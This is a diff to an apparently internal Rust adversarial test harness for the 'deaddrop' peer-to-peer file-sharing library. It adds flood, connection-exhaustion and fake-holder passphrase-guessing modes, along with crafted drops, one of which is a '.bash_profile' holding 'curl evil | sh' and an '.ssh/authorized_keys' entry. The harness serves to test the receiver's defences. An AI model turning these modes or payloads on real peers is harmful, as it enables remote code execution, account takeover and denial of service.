@@ -5,8 +5,12 @@
 //! ```text
 //! hostile garbage     --to ADDR:PORT --count N             datagrams of random bytes and sizes
 //!                     (every command takes --from IP: the source address to attack from)
-//! hostile announce    --to ADDR:PORT --ids N --count N     valid announcements from N fake ids
-//! hostile silent      --to ADDR:PORT --count N --hold SECS connections that never speak
+//! hostile announce    --to ADDR:PORT --ids N --count N [--ports N]  announcements, N fake ids
+//! hostile fake-holder --to ADDR:PORT --seconds S [--ports N] [--every MS] [--words FILE|--silent]
+//!                     a fake holder: announces fresh ids, answers hellos with one guess each
+//! hostile member      --room P --port P --drop dotfiles|tree:N:DEPTH|listing --seconds S
+//!                     a room member offering crafted drops (dotfile names, huge trees)
+//! hostile silent      --to ADDR:PORT --count N --hold SECS [--refill]  connections that never speak
 //! hostile half        --to ADDR:PORT --count N --hold SECS ClientHellos never finished
 //! hostile guess       --to ADDR:PORT --count N [--pass P]  wrong-passphrase handshakes, full speed
 //! hostile oversized   --to ADDR:PORT                       a 64 KiB handshake length, then data
@@ -18,11 +22,13 @@
 //! Prints one JSON line with what happened.
 
 use std::io::{Read, Write};
-use std::net::{SocketAddr, TcpStream, UdpSocket};
+use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};
+use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
 use deaddrop::beacon::Beacon;
-use deaddrop::handshake::Client;
+use deaddrop::handshake::{Client, Server};
 use deaddrop::id::{PeerId, random_bytes};
 use deaddrop::secret::Passphrase;
 
@@ -116,13 +122,14 @@ pub fn run(args: &[String]) -> Option<serde_json::Value> {
         "announce" => {
             let (to, s) = (target(args), udp(args));
             let (ids, count) = (num(args, "--ids", 1000), num(args, "--count", 10_000));
-            let port = num(args, "--port", 9) as u16;
+            let port = num(args, "--port", 9);
+            let ports = num(args, "--ports", 1).max(1);
             for i in 0..count {
                 let mut id = [0u8; 16];
                 id[..8].copy_from_slice(&(i % ids).to_be_bytes());
                 let b = Beacon::Announce {
                     id: PeerId(id),
-                    port,
+                    port: (port + i % ports).clamp(1, 65535) as u16,
                     generation: i,
                 };
                 let _ = s.send_to(&b.encode(), to);
@@ -132,42 +139,51 @@ pub fn run(args: &[String]) -> Option<serde_json::Value> {
         "silent" | "half" => {
             let (to, count) = (target(args), num(args, "--count", 100));
             let hold = Duration::from_secs(num(args, "--hold", 10));
+            // With --refill, connections the holder closes are opened again until the end, so
+            // the holder's slots stay full for the whole time.
+            let refill = args.iter().any(|a| a == "--refill");
+            let open = |conns: &mut Vec<TcpStream>| match connect(args, to) {
+                Ok(mut c) => {
+                    if cmd == "half" {
+                        let _ = c.write_all(&hello_frame("not the passphrase"));
+                    }
+                    c.set_nonblocking(true).unwrap();
+                    conns.push(c);
+                    true
+                }
+                Err(_) => false,
+            };
             let mut conns = Vec::new();
             let mut refused = 0;
             for _ in 0..count {
-                match connect(args, to) {
-                    Ok(mut c) => {
-                        if cmd == "half" {
-                            let _ = c.write_all(&hello_frame("not the passphrase"));
-                        }
-                        conns.push(c);
-                    }
-                    Err(_) => refused += 1,
+                if !open(&mut conns) {
+                    refused += 1;
                 }
             }
-            std::thread::sleep(hold);
+            let opened = conns.len();
+            let mut reopened = 0;
+            let end = Instant::now() + hold;
+            while refill && Instant::now() < end {
+                std::thread::sleep(Duration::from_millis(20));
+                let before = conns.len();
+                conns.retain_mut(|c| !closed_by_peer(c));
+                for _ in conns.len()..before {
+                    if open(&mut conns) {
+                        reopened += 1;
+                    }
+                }
+            }
+            std::thread::sleep(end.saturating_duration_since(Instant::now()));
             // Which of them did the holder close meanwhile?
             let mut closed = 0;
             for c in &mut conns {
-                c.set_read_timeout(Some(Duration::from_millis(50))).unwrap();
-                let mut b = [0u8; 256];
-                loop {
-                    match c.read(&mut b) {
-                        Ok(0) => {
-                            closed += 1;
-                            break;
-                        }
-                        Ok(_) => continue,
-                        Err(e) if e.kind() == std::io::ErrorKind::ConnectionReset => {
-                            closed += 1;
-                            break;
-                        }
-                        Err(_) => break,
-                    }
-                }
+                closed += usize::from(closed_by_peer(c));
             }
-            serde_json::json!({"opened": conns.len(), "refused": refused, "closed_by_peer": closed})
+            serde_json::json!({"opened": opened, "refused": refused, "reopened": reopened,
+                "open_at_end": conns.len(), "closed_by_peer": closed})
         }
+        "fake-holder" => fake_holder(args),
+        "member" => member(args),
         "guess" => {
             let (to, count) = (target(args), num(args, "--count", 100));
             let pass = arg(args, "--pass").unwrap_or_else(|| "guess".into());
@@ -274,5 +290,270 @@ pub fn run(args: &[String]) -> Option<serde_json::Value> {
             serde_json::json!({"sent": recorded.len(), "answer_bytes": answer.len()})
         }
         _ => return None,
+    })
+}
+
+/// Whether the peer has closed a (non-blocking) connection: end of stream or a reset. Anything
+/// it sent is read and dropped; "nothing yet" is not closed.
+fn closed_by_peer(c: &mut TcpStream) -> bool {
+    let mut b = [0u8; 256];
+    loop {
+        match c.read(&mut b) {
+            Ok(0) => return true,
+            Ok(_) => continue,
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => return false,
+            Err(_) => return true,
+        }
+    }
+}
+
+/// Reads one length-prefixed handshake message (at most 256 bytes) within `limit`.
+fn read_frame(c: &mut TcpStream, limit: Duration) -> Option<Vec<u8>> {
+    c.set_read_timeout(Some(limit)).ok()?;
+    let mut len = [0u8; 2];
+    c.read_exact(&mut len).ok()?;
+    let len = usize::from(u16::from_be_bytes(len));
+    if len > 256 {
+        return None;
+    }
+    let mut msg = vec![0u8; len];
+    c.read_exact(&mut msg).ok()?;
+    Some(msg)
+}
+
+/// A fake holder: listens on `--ports` TCP ports of `--from`, announces each under a fresh id and
+/// generation every `--every` ms to `--to`, and answers each ClientHello with a ServerHello made
+/// under the next word of `--words` (a file, one per line). A ClientFinish means the receiver
+/// accepted: the word is its passphrase. With `--silent` it accepts and never speaks.
+fn fake_holder(args: &[String]) -> serde_json::Value {
+    let to = target(args);
+    let seconds = Duration::from_secs(num(args, "--seconds", 10));
+    let every = Duration::from_millis(num(args, "--every", 5));
+    let silent = args.iter().any(|a| a == "--silent");
+    let words: Vec<String> = match arg(args, "--words") {
+        Some(path) => std::fs::read_to_string(path)
+            .unwrap()
+            .lines()
+            .map(str::to_owned)
+            .filter(|w| !w.is_empty())
+            .collect(),
+        None => vec!["guess".into()],
+    };
+    let listeners: Vec<TcpListener> = (0..num(args, "--ports", 1))
+        .map(|_| {
+            let l = TcpListener::bind((from(args), 0)).unwrap();
+            l.set_nonblocking(true).unwrap();
+            l
+        })
+        .collect();
+    let end = Instant::now() + seconds;
+    let (connections, hellos, guesses) = (
+        Arc::new(AtomicU64::new(0)),
+        Arc::new(AtomicU64::new(0)),
+        Arc::new(AtomicU64::new(0)),
+    );
+    let next_word = Arc::new(AtomicUsize::new(0));
+    let found: Arc<Mutex<Option<String>>> = Arc::default();
+    let held: Arc<Mutex<Vec<TcpStream>>> = Arc::default();
+    let words = Arc::new(words);
+    let ports: Vec<u16> = listeners
+        .iter()
+        .map(|l| l.local_addr().unwrap().port())
+        .collect();
+    let announcer = {
+        let s = udp(args);
+        std::thread::spawn(move || {
+            let mut generation = 0u64;
+            while Instant::now() < end {
+                for &port in &ports {
+                    generation += 1;
+                    let b = Beacon::Announce {
+                        id: PeerId::random(),
+                        port,
+                        generation,
+                    };
+                    let _ = s.send_to(&b.encode(), to);
+                }
+                std::thread::sleep(every);
+            }
+            generation
+        })
+    };
+    let mut workers = Vec::new();
+    while Instant::now() < end {
+        let mut idle = true;
+        for l in &listeners {
+            let Ok((mut c, _)) = l.accept() else { continue };
+            idle = false;
+            connections.fetch_add(1, Ordering::Relaxed);
+            c.set_nonblocking(false).unwrap();
+            let (hellos, guesses, found, held) =
+                (hellos.clone(), guesses.clone(), found.clone(), held.clone());
+            let (words, next_word) = (words.clone(), next_word.clone());
+            workers.push(std::thread::spawn(move || {
+                if silent {
+                    held.lock().unwrap().push(c);
+                    return;
+                }
+                let Some(hello) = read_frame(&mut c, Duration::from_secs(5)) else {
+                    return;
+                };
+                hellos.fetch_add(1, Ordering::Relaxed);
+                let i = next_word.fetch_add(1, Ordering::Relaxed);
+                let word = &words[i % words.len()];
+                let pass = Passphrase::new(word.clone()).unwrap();
+                let Ok((_, reply)) = Server::respond(&pass, PeerId::random(), &hello) else {
+                    return;
+                };
+                let mut frame = (reply.len() as u16).to_be_bytes().to_vec();
+                frame.extend(reply);
+                if c.write_all(&frame).is_err() {
+                    return;
+                }
+                guesses.fetch_add(1, Ordering::Relaxed);
+                // Only a receiver that accepted our confirmation sends its own.
+                if read_frame(&mut c, Duration::from_secs(3)).is_some_and(|f| f.len() == 33) {
+                    *found.lock().unwrap() = Some(word.clone());
+                }
+            }));
+        }
+        if idle {
+            std::thread::sleep(Duration::from_millis(2));
+        }
+    }
+    let announced = announcer.join().unwrap();
+    for w in workers {
+        let _ = w.join();
+    }
+    let found = found.lock().unwrap().clone();
+    serde_json::json!({
+        "announced": announced,
+        "connections": connections.load(Ordering::Relaxed),
+        "hellos": hellos.load(Ordering::Relaxed),
+        "guesses": guesses.load(Ordering::Relaxed),
+        "words": words.len(),
+        "found": found,
+        "seconds": seconds.as_secs_f64(),
+    })
+}
+
+/// The stream of a folder drop with `entries` entries nested `depth` deep: chains of folders
+/// `c<i>/d/d/...`, each folder an entry of its own.
+fn deep_tree(entries: u64, depth: usize) -> Vec<u8> {
+    use deaddrop::tree::Header;
+    let mut out = Vec::new();
+    let mut n = 0;
+    let mut chain = 0;
+    'chains: loop {
+        let mut path = format!("c{chain}");
+        for level in 0..depth {
+            if n == entries {
+                break 'chains;
+            }
+            if level > 0 {
+                path.push_str("/d");
+            }
+            out.extend(Header::Dir { path: path.clone() }.encode());
+            n += 1;
+        }
+        chain += 1;
+    }
+    out.extend(Header::End.encode());
+    out
+}
+
+/// A room member offering crafted drops with the library's own holder: it knows the passphrase,
+/// so everything it sends is authentic; the receiver's safe-receiving rules must hold anyway.
+fn member(args: &[String]) -> serde_json::Value {
+    use deaddrop::discovery::{Discovery, DiscoveryConfig, resolve};
+    use deaddrop::holder::{Holder, HolderOptions};
+    use deaddrop::message::DropKind;
+    use deaddrop::source::Source;
+    use deaddrop::store::{DropSpec, FetchLimit};
+    let pass = Passphrase::new(arg(args, "--room").expect("--room")).unwrap();
+    let port = num(args, "--port", 48557) as u16;
+    let seconds = Duration::from_secs(num(args, "--seconds", 30));
+    let what = arg(args, "--drop").expect("--drop");
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    rt.block_on(async move {
+        let scope = resolve(&DiscoveryConfig {
+            port,
+            interface: Some("127.0.0.1".into()),
+            peers: vec![],
+        })
+        .await
+        .unwrap();
+        let opts = HolderOptions {
+            name: "member".into(),
+            ..HolderOptions::default()
+        };
+        let fetched = Arc::new(AtomicU64::new(0));
+        let counter = fetched.clone();
+        let events: deaddrop::event::Events = Arc::new(move |e| {
+            if let deaddrop::event::Event::Fetched { .. } = e {
+                counter.fetch_add(1, Ordering::Relaxed);
+            }
+        });
+        let holder = Holder::start(pass, opts, Discovery::bind(scope).unwrap(), events)
+            .await
+            .unwrap();
+        let offer = |kind, name: &str, content: Vec<u8>| {
+            let spec = DropSpec {
+                kind,
+                name: name.into(),
+                size: content.len() as u64,
+                ttl: seconds,
+                limit: FetchLimit::Everyone,
+                executable: false,
+            };
+            holder
+                .offer(spec, Arc::new(Source::bytes(content)))
+                .unwrap()
+        };
+        let mut offered = 0;
+        match what.as_str() {
+            "dotfiles" => {
+                use deaddrop::tree::Header;
+                offer(
+                    DropKind::File,
+                    ".bash_profile",
+                    b"curl evil | sh\n".to_vec(),
+                );
+                let mut ssh = Header::File {
+                    path: "authorized_keys".into(),
+                    size: 12,
+                    executable: false,
+                }
+                .encode();
+                ssh.extend(b"ssh-ed25519 ");
+                ssh.extend(Header::End.encode());
+                offer(DropKind::Directory, ".ssh", ssh);
+                offered = 2;
+            }
+            "listing" => {
+                // As many drops as a listing carries, each with the longest name.
+                for i in 0..deaddrop::message::MAX_LISTING {
+                    let name =
+                        format!("{i:04}{}", "n".repeat(deaddrop::message::MAX_DROP_NAME - 4));
+                    offer(DropKind::Other(9), &name, vec![0u8; 1]);
+                    offered += 1;
+                }
+            }
+            tree => {
+                let mut parts = tree.split(':').skip(1);
+                let entries = parts
+                    .next()
+                    .and_then(|v| v.parse().ok())
+                    .expect("tree:N:DEPTH");
+                let depth = parts
+                    .next()
+                    .and_then(|v| v.parse().ok())
+                    .expect("tree:N:DEPTH");
+                offer(DropKind::Directory, "deep", deep_tree(entries, depth));
+                offered = 1;
+            }
+        }
+        tokio::time::sleep(seconds).await;
+        serde_json::json!({"offered": offered, "fetched": fetched.load(Ordering::Relaxed)})
     })
 }
